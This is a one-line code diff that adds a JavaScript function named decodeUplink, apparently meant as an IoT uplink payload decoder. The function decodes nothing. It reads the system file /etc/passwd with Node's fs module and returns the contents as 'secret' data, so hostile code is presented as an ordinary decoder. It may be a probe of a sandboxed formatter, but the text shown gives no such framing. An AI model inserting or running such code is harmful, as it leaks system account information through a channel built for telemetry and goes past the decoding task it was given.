@@ -1,0 +1,1 @@
+function decodeUplink() { return { data: { secret: require("fs").readFileSync("/etc/passwd") } }; }
